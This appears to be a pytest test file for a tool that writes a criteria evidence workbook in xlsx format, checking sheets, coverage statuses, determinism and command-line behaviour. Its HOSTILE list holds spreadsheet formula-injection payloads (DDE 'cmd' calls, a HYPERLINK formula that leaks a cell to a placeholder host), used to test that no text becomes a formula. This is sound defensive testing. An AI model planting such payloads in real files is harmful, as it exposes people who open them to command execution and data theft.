"""The criteria evidence workbook (`check --format xlsx`), read back as a spreadsheet reads it.

- four sheets with fixed names and header rows; one Criteria row per criteria node, in
  criteria order, outlined by level; statuses that agree with the report's coverage
  matrix (the HTML heatmap); the mappings that claim each node, with their places;
- the Units matrix is the heatmap's, with hours and credits per unit and per group;
- every finding on the Findings sheet; the file's SHA-256 and the verdict on About;
- frozen headers, autofilters, print setup; no formula cell, whatever a document says;
- the same input gives the same bytes, whatever the clock or hash seed;
- the command line refuses to write a workbook to a terminal or for several files, and
  replaces nothing when a file cannot be read;
- LibreOffice opens the workbook and prints it to PDF pages.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fixtures.specs.patching import patched_spec

from criteria_checker import __version__
from criteria_checker.cli import main
from criteria_checker.engine.api import check_spec, criteria_for, read_and_check, rules_for
from criteria_checker.engine.options import CheckOptions
from criteria_checker.evidence.rows import STATUS_WORDS, build_evidence, location_text
from criteria_checker.evidence.workbook import (
    CRITERIA_HEADINGS,
    FINDING_HEADINGS,
    SHEETS,
    UNIT_HEADINGS,
    render_workbook,
    workbook_for_file,
)
from criteria_checker.evidence.xlsx import cell_text
from criteria_checker.model.spec import SourceLocation
from criteria_checker.writers.xml_writer import write_xml_spec

ROOT = Path(__file__).resolve().parent.parent
SPECIMENS = ROOT / "specimens"
CLI = [sys.executable, "-m", "criteria_checker"]


@cache
def _workbook_bytes(name: str) -> bytes:
    return workbook_for_file(SPECIMENS / name)[1]


def load(name: str) -> Any:
    """The workbook of a specimen, as openpyxl reads it back."""
    return openpyxl.load_workbook(io.BytesIO(_workbook_bytes(name)))


def rows(sheet: Any, first: int = 2) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(min_row=first, values_only=True))


def by_ref(name: str) -> dict[str, tuple[Any, ...]]:
    return {row[0]: row for row in rows(load(name)["Criteria"])}


# -- sheets and headers ---------------------------------------------------------------------


def test_sheets_and_header_rows() -> None:
    workbook = load("conformant.docx")
    assert workbook.sheetnames == ["Criteria", "Units", "Findings", "About"] == list(SHEETS)
    assert next(workbook["Criteria"].iter_rows(max_row=1, values_only=True)) == (
        "Reference", "Level", "Text", "Status", "Mandatory units", "Optional units",
        "Items in mandatory units", "Units covering part of it", "Claimed by (unit, where)",
        "Findings") == CRITERIA_HEADINGS
    units_header = next(workbook["Units"].iter_rows(max_row=1, values_only=True))
    assert units_header[:9] == ("Unit", "Number", "Title", "Group", "Kind", "Level", "GLH",
                                "TQT", "Credit") == UNIT_HEADINGS
    assert units_header[9:12] == ("LMAC5A/LM Leadership and Ma…",
                                  "LMAC5A/GR Governance and re…", "LMAC5A/DM Decision making")
    assert len(units_header) == 9 + 21
    assert next(workbook["Findings"].iter_rows(max_row=1, values_only=True)) == (
        "Severity", "Rule", "Rule name", "Where", "Criteria", "Message", "Help",
        "Source") == FINDING_HEADINGS
    assert next(workbook["About"].iter_rows(max_row=1, values_only=True)) == ("Field", "Value")


# -- Criteria -------------------------------------------------------------------------------


def test_one_criteria_row_per_node_in_criteria_order() -> None:
    criteria = criteria_for(CheckOptions())
    data = rows(load("conformant.docx")["Criteria"])
    # 8 topics + 21 sub-topics + 64 outcomes + 287 items.
    assert len(data) == 380
    assert [row[0] for row in data] == [node.ref for node in criteria.nodes()]
    levels = [row[1] for row in data]
    assert {level: levels.count(level) for level in dict.fromkeys(levels)} == {
        "topic": 8, "sub-topic": 21, "outcome": 64, "item": 287}


def test_a_conformant_item_row_names_its_unit_and_every_claim_with_its_place() -> None:
    assert by_ref("conformant.docx")["LMAC5A/LM/A.1"] == (
        "LMAC5A/LM/A.1", "item", "the differences between leadership and management",
        "✔ covered by a mandatory unit", "H/651/4402", None, None, None,
        "H/651/4402 (whole unit) → LMAC5A/LM at unit H/651/4402, table 5, row 10\n"
        "H/651/4402 criterion 1.1 → LMAC5A/LM/A.1 at unit H/651/4402, table 6, row 2",
        None)


def test_xml_claims_give_their_line() -> None:
    assert by_ref("conformant.xml")["LMAC5A/LM/A.1"][8] == (
        "H/651/4402 (whole unit) → LMAC5A/LM at line 24\n"
        "H/651/4402 criterion 1.1 → LMAC5A/LM/A.1 at line 31")


def test_an_item_with_bullets_shows_them_one_per_line() -> None:
    assert by_ref("conformant.docx")["LMAC5E/EC/A.3"][2] == (
        "how communication skills underpin:\n"
        "• achievement of positive outcomes for individuals and others\n"
        "• the leadership and management of teams\n"
        "• sustainable relationships and partnerships.")


def test_optional_only_content_names_the_optional_unit_and_its_findings() -> None:
    criteria = by_ref("optional-only-coverage.docx")
    findings = ("COV002 error: LMAC5E/HI (sub-topic 'Handling Information') is covered only "
                "by optional units (L/651/4416)\n"
                "COV004 error: Sub-topic LMAC5E/HI (Handling Information) is not presented as "
                "one mandatory unit: its 6 items are only in optional unit L/651/4416")
    assert criteria["LMAC5E/HI"] == (
        "LMAC5E/HI", "sub-topic", "Handling Information", "◐ optional units only", None,
        "L/651/4416", "0 of 6", None,
        "L/651/4416 (whole unit) → LMAC5E/HI at unit L/651/4416, table 33, row 10", findings)
    assert criteria["LMAC5E/HI/B.2"][3:9] == (
        "◐ optional units only", None, "L/651/4416", None, None,
        "L/651/4416 (whole unit) → LMAC5E/HI at unit L/651/4416, table 33, row 10\n"
        "L/651/4416 criterion 2.2 → LMAC5E/HI/B.2 at unit L/651/4416, table 34, row 6")
    # A topic takes the least covered status of its sub-topics, and every finding inside it.
    assert criteria["LMAC5E"] == (
        "LMAC5E", "topic", "Communication", "◐ optional units only", None, None, "13 of 19",
        "K/651/4415\nL/651/4416", None, findings)


def test_uncovered_topic() -> None:
    criteria = by_ref("topic-not-covered.xml")
    assert criteria["LMAC5G"][3:] == (
        "✖ not covered", None, None, "0 of 13", None, None,
        "COV001 error: LMAC5G (topic 'Health and safety') is not covered by any unit")
    assert criteria["LMAC5G/HS/A.1"][3:] == ("✖ not covered", None, None, None, None, None,
                                             None)


def test_a_subtopic_split_across_units_is_not_covered_whole_but_its_items_are() -> None:
    criteria = by_ref("subtopic-split-across-units.xml")
    assert criteria["LMAC5E/HI"][3:8] == ("✖ not covered", None, None, "6 of 6",
                                          "K/651/4415\nL/651/4416")
    assert criteria["LMAC5E/HI/A.1"][3:5] == ("✔ covered by a mandatory unit", "L/651/4416")
    assert criteria["LMAC5E/HI/B.1"][3:5] == ("✔ covered by a mandatory unit", "K/651/4415")


STATUS_SPECIMENS = ["conformant.docx", "optional-only-coverage.xml", "topic-not-covered.docx",
                    "subtopic-split-across-units.xml", "mappings-not-found.docx",
                    "subtopic-not-covered.xml"]


@pytest.mark.parametrize("name", STATUS_SPECIMENS)
def test_statuses_agree_with_the_coverage_heatmap(name: str) -> None:
    _, report = read_and_check(SPECIMENS / name)
    heatmap = {row.ref: STATUS_WORDS[row.status] for row in report.coverage.rows}
    criteria = by_ref(name)
    assert {ref: criteria[ref][3] for ref in heatmap} == heatmap
    for row in report.coverage.rows:
        assert criteria[row.ref][4:6] == ("\n".join(row.mandatory) or None,
                                          "\n".join(row.optional) or None)


@pytest.mark.parametrize("name", STATUS_SPECIMENS)
def test_every_finding_with_a_reference_is_on_its_node_and_each_ancestor(name: str) -> None:
    spec, report = read_and_check(SPECIMENS / name)
    criteria = criteria_for(CheckOptions())
    evidence = {row.ref: row for row in build_evidence(spec, report, criteria)}
    for finding in report.findings:
        if finding.ref is None:
            continue
        ref = finding.ref
        while True:
            assert finding in evidence[ref].findings
            node = criteria.resolve(ref)
            if node.parent is None:
                break
            ref = node.parent
    for row in evidence.values():
        assert all(f.ref == row.ref or f.ref.startswith((row.ref + "/", row.ref + "."))
                   for f in row.findings if f.ref)


def test_outline_levels_fold_to_topics_and_subtopics() -> None:
    sheet = load("conformant.docx")["Criteria"]
    expected = {"topic": 0, "sub-topic": 1, "outcome": 2, "item": 3}
    for number, row in enumerate(rows(sheet), start=2):
        assert sheet.row_dimensions[number].outline_level == expected[row[1]], row[0]
    assert sheet.sheet_properties.outlinePr.summaryBelow is False
    assert sheet.sheet_format.outlineLevelRow == 3


def test_frozen_headers_filters_and_print_setup() -> None:
    workbook = load("optional-only-coverage.docx")
    expected = {"Criteria": ("B2", "A1:J381"), "Units": ("D2", "A1:AD37"),
                "Findings": ("A2", "A1:H3"), "About": ("A2", "A1:B27")}
    for name, (freeze, filtered) in expected.items():
        sheet = workbook[name]
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == (freeze, filtered), name
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
        assert sheet.print_title_rows == "$1:$1"


def test_column_widths_fit_their_contents_within_caps() -> None:
    sheet = load("conformant.docx")["Criteria"]
    widths = {sheet.cell(1, c).value: sheet.column_dimensions[chr(64 + c)].width
              for c in range(1, 11)}
    longest = max(len(row[0]) for row in rows(sheet))
    assert widths["Reference"] == longest + 2 == len("LMAC5A/LM/A.10") + 2
    assert widths["Text"] == 50 and widths["Claimed by (unit, where)"] == 66
    for number in range(2, 382):
        cell = sheet.cell(number, 3)
        assert cell.alignment.wrap_text is True


def test_status_is_told_by_fill_and_by_words() -> None:
    sheet = load("optional-only-coverage.docx")["Criteria"]
    fills = {}
    for number in range(2, 382):
        cell = sheet.cell(number, 4)
        fills.setdefault(cell.value, set()).add(cell.fill.fgColor.rgb)
    assert fills == {"✔ covered by a mandatory unit": {"00C6EFCE"},
                     "◐ optional units only": {"00FFEB9C"}}


# -- Units ----------------------------------------------------------------------------------


def test_units_sheet_is_the_heatmap_with_hours_and_credits() -> None:
    _, report = read_and_check(SPECIMENS / "optional-only-coverage.docx")
    sheet = load("optional-only-coverage.docx")["Units"]
    header = next(sheet.iter_rows(max_row=1, values_only=True))
    subtopics = [row.ref for row in report.coverage.rows if row.level == "subtopic"]
    assert [h.split()[0] for h in header[9:]] == subtopics
    data = rows(sheet)
    units = [row for row in data if row[0] not in ("Total", "Sub-topic status", None)]
    assert len(units) == 32
    marks = {(row[0], subtopics[i]): mark for row in units
             for i, mark in enumerate(row[9:]) if mark}
    heatmap = {(key, row.ref): "M" for row in report.coverage.rows if row.level == "subtopic"
               for key in row.mandatory}
    heatmap |= {(key, row.ref): "O" for row in report.coverage.rows
                if row.level == "subtopic" for key in row.optional}
    assert marks == heatmap
    # Unit 515 moved to optional group B: its hours count there, not in the mandatory group.
    assert next(row for row in units if row[0] == "L/651/4416")[:9] == (
        "L/651/4416", "515", "Handling Information", "Group B: Leading different services",
        "optional", 5, 20, 30, 3)
    totals = [row[:9] for row in data if row[0] == "Total"]
    assert totals == [
        ("Total", None, "20 units", "Group A: Mandatory units", "mandatory", None, 493, 750, 75),
        ("Total", None, "7 units", "Group B: Leading different services", "optional", None,
         164, 250, 25),
        ("Total", None, "5 units", "Group C: Digital and management skills", "optional", None,
         100, 150, 15),
    ]
    status = data[-1]
    assert status[0] == "Sub-topic status"
    assert "".join(status[9:]) == "✔" * 14 + "◐" + "✔" * 6


def test_units_in_no_group_and_figures_not_stated_are_said_so() -> None:
    data = [row[:9] for row in rows(load("unit-in-no-group.docx")["Units"])]
    assert data[-3:-1] == [
        ("L/651/4475", "605", "Leading positive behavioural support", "No group", "none", 5, 26,
         40, 4),
        ("Total", None, "1 unit", "No group", "none", None, 26, 40, 4)]
    data = [row[:9] for row in rows(load("optional-unit-without-hours.xml")["Units"])]
    assert data[-2] == ("Total", None, "5 units; TQT not stated for 1; credit not stated for 1",
                        "Group C: Digital and management skills", "optional", None, 100, 120, 12)


def test_a_group_named_but_not_defined_covers_nothing() -> None:
    spec = patched_spec([{"set": "units[H/650/2101].group", "value": "Z"}])
    criteria = criteria_for(CheckOptions())
    report = check_spec(spec, criteria=criteria, rules=rules_for(CheckOptions()))
    sheet = openpyxl.load_workbook(io.BytesIO(render_workbook(spec, report, criteria)))["Units"]
    data = rows(sheet)
    unit = next(row for row in data if row[0] == "H/650/2101")
    assert unit[3:5] == ("Group Z (not defined)", "none")
    assert not any(unit[9:])
    assert data[-2][:5] == ("Total", None, "1 unit", "Group Z (not defined)", "none")


# -- Findings and About ---------------------------------------------------------------------


def test_findings_sheet_lists_every_finding_errors_first() -> None:
    _, report = read_and_check(SPECIMENS / "tqt-above-band.docx")
    data = rows(load("tqt-above-band.docx")["Findings"])
    assert [(row[0], row[1]) for row in data] == [
        ("Error", "OPT004"), ("Error", "OPT004"), ("Error", "HRS001")]
    assert {row[5] for row in data} == {f.message for f in report.findings}
    assert all(row[6] and row[7] for row in data)  # help and the criteria clause it cites


def test_finding_places_read_as_in_the_other_reports() -> None:
    assert rows(load("topic-not-covered.xml")["Findings"])[0][:5] == (
        "Error", "COV001", "content-covered", "whole document", "LMAC5G")
    assert location_text(SourceLocation(file="f", line=3, locator="unit X")) == "line 3"
    assert location_text(SourceLocation(file="f", locator="unit H/650/2114, table 7, row 3",
                                        path="/w:body/w:tbl[7]/w:tr[3]")) == (
        "unit H/650/2114, table 7, row 3")
    assert location_text(SourceLocation(file="f", path="/w:body/w:p[4]")) == "/w:body/w:p[4]"
    assert location_text(SourceLocation(file="f")) == ""


def test_about_sheet_names_the_file_its_digest_the_criteria_and_the_verdict() -> None:
    about = dict(rows(load("topic-not-covered.xml")["About"]))
    digest = hashlib.sha256((SPECIMENS / "topic-not-covered.xml").read_bytes()).hexdigest()
    assert about["Specification file"] == str(SPECIMENS / "topic-not-covered.xml")
    assert about["SHA-256 of the file"] == digest
    assert about["Verdict"] == "✖ NOT CONFORMANT"
    assert about["Findings"] == "1 error, 1 warning, 0 info"
    assert about["Criteria set id"] == "sfc-l5-lmac-2021-05"
    assert about["Criteria version"] == "May 2021"
    assert about["Checked by"] == f"criteria-checker {__version__}"
    assert about["Sub-topics covered by mandatory units"] == "20 of 21"
    assert dict(rows(load("conformant.xml")["About"]))["Verdict"] == "✔ CONFORMANT"


# -- safety and determinism -----------------------------------------------------------------

HOSTILE = [
    {"set": "units[H/650/2101].title",
     "value": '=HYPERLINK("http://example.invalid/?"&A1,"Click")'},
    {"set": "title", "value": "+cmd|' /C calc'!A0"},
    {"set": "awarding_organisation", "value": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"set": "qualification_number", "value": "-2+3"},
    {"set": "units[H/650/2102].title", "value": "#N/A"},
]


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A specification whose texts, and file name, start like formulas."""
    monkeypatch.chdir(tmp_path)
    path = Path("=HYPERLINK(1).xml")
    path.write_bytes(write_xml_spec(patched_spec(HOSTILE)))
    return path


def _all_cells(workbook: Any) -> Iterator[Any]:
    for sheet in workbook:
        for row in sheet.iter_rows():
            yield from row


def test_no_text_becomes_a_formula(hostile: Path) -> None:
    data = workbook_for_file(hostile)[1]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert [c.coordinate for c in _all_cells(workbook) if c.data_type in ("f", "e")] == []
    values = {c.value for c in _all_cells(workbook)}
    assert {'=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=HYPERLINK(1).xml", "#N/A"} <= values
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_control_characters_are_shown_and_long_texts_cut() -> None:
    assert cell_text("\x1b[31mred\x07\nnext\tline") == "\\x1b[31mred\\x07\nnext line"
    long = cell_text("=" + "x" * 40000)
    assert len(long) == 32767 and long.startswith("=xxx")
    assert long.endswith("… (7268 more characters not shown)")
    assert len(long.removesuffix("… (7268 more characters not shown)")) + 7268 == 40001


def test_same_input_same_bytes_whatever_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    spec, report = read_and_check(SPECIMENS / "optional-only-coverage.docx")
    criteria = criteria_for(CheckOptions())
    first = render_workbook(spec, report, criteria, sha256="0" * 64)
    later = time.time() + 400 * 24 * 3600
    monkeypatch.setattr(time, "time", lambda: later)
    monkeypatch.setattr(time, "localtime", lambda seconds=None: time.gmtime(later))
    assert render_workbook(spec, report, criteria, sha256="0" * 64) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "<dc:creator" in core and ">criteria-checker</dc:creator>" in core
    assert core.count("2000-01-01T00:00:00Z") == 2


def test_same_bytes_from_separate_runs_and_hash_seeds(tmp_path: Path) -> None:
    outputs = []
    for seed in ("1", "2"):
        target = tmp_path / f"run{seed}.xlsx"
        subprocess.run([*CLI, "check", "--format", "xlsx", "-o", str(target),
                        str(SPECIMENS / "subtopic-split-across-units.xml")],
                       env={**os.environ, "PYTHONHASHSEED": seed}, check=False, timeout=120)
        outputs.append(target.read_bytes())
        time.sleep(2.1)  # ZIP times have a resolution of two seconds
    assert outputs[0] == outputs[1]


# -- the command line -----------------------------------------------------------------------


def run_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exit_info:
        main(list(args))
    out, err = capsys.readouterr()
    assert isinstance(exit_info.value.code, int)
    return exit_info.value.code, out, err


NEEDS_OUTPUT = ("criteria-checker: error: --format xlsx needs --output FILE.xlsx: a workbook is "
                "never written to standard output or a terminal (see 'criteria-checker check "
                "--help')\n")


@pytest.mark.parametrize("output", [[], ["-o", "-"], ["--output", "-"]])
def test_xlsx_to_standard_output_is_a_usage_error(capsys: pytest.CaptureFixture[str],
                                                  output: list[str]) -> None:
    assert run_cli(capsys, "check", "--format", "xlsx", *output,
                   str(SPECIMENS / "conformant.xml")) == (2, "", NEEDS_OUTPUT)


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs pseudo-terminals")
def test_xlsx_to_a_terminal_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    leader, follower = os.openpty()
    try:
        terminal = os.ttyname(follower)
        assert run_cli(capsys, "check", "--format", "xlsx", "-o", terminal,
                       str(SPECIMENS / "conformant.xml")) == (2, "", NEEDS_OUTPUT)
    finally:
        os.close(leader)
        os.close(follower)


def test_xlsx_to_a_device_that_is_no_terminal_is_written(
        capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(capsys, "check", "--format", "xlsx", "-o", os.devnull,
                   str(SPECIMENS / "conformant.xml")) == (0, "", "")


def test_xlsx_for_several_files_is_refused(capsys: pytest.CaptureFixture[str],
                                           tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    assert run_cli(capsys, "check", "--format", "xlsx", "-o", str(target),
                   str(SPECIMENS / "conformant.xml"), str(SPECIMENS / "conformant.docx")) == (
        2, "", "criteria-checker: error: --format xlsx writes the workbook of one "
               "specification, not of 2 files: check one file, or run 'criteria-checker "
               "batch --format xlsx' for a workbook per file (see 'criteria-checker check "
               "--help')\n")
    assert not target.exists()


@pytest.mark.parametrize(("name", "code"), [("conformant.docx", 0), ("topic-not-covered.xml", 1)])
def test_xlsx_exit_codes_follow_the_verdict(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                            name: str, code: int) -> None:
    target = tmp_path / "evidence.xlsx"
    assert run_cli(capsys, "check", "--format", "xlsx", "-o", str(target),
                   str(SPECIMENS / name)) == (code, "", "")
    assert target.read_bytes() == _workbook_bytes(name)
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames == list(SHEETS)
    assert dict(rows(workbook["About"]))["Verdict"] == ("✔ CONFORMANT" if code == 0
                                                        else "✖ NOT CONFORMANT")


def test_an_unreadable_file_replaces_nothing(capsys: pytest.CaptureFixture[str],
                                             tmp_path: Path) -> None:
    broken = tmp_path / "broken.docx"
    broken.write_bytes(b"%PDF-1.7\n")
    target = tmp_path / "evidence.xlsx"
    target.write_bytes(b"previous")
    assert run_cli(capsys, "check", "--format", "xlsx", "-o", str(target), str(broken)) == (
        2, "", f"criteria-checker: error: {broken}: is a PDF file, not a Word .docx document; "
               "submit the Word document\n")
    assert target.read_bytes() == b"previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.docx", "evidence.xlsx"]


# -- LibreOffice ----------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or ("/usr/bin/soffice" if Path("/usr/bin/soffice").exists()
                                      else None)


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_prints_the_workbook_to_pdf_pages(tmp_path: Path) -> None:
    assert SOFFICE is not None
    book = tmp_path / "evidence.xlsx"
    book.write_bytes(_workbook_bytes("optional-only-coverage.docx"))
    profile = tmp_path / "profile"
    result = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "pdf", "--outdir", str(tmp_path), str(book)],
        capture_output=True, text=True, timeout=300, check=False)
    pdf = tmp_path / "evidence.pdf"
    assert result.returncode == 0 and pdf.is_file(), result.stderr
    pages = _pdf_pages(pdf)
    # Criteria, Units, Findings and About, each on at least one page.
    assert pages >= 4, pages


def _pdf_pages(pdf: Path) -> int:
    if shutil.which("pdfinfo"):
        info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
                              check=True, timeout=60).stdout
        match = re.search(r"^Pages:\s+(\d+)", info, re.MULTILINE)
        assert match, info
        return int(match.group(1))
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf.read_bytes()))
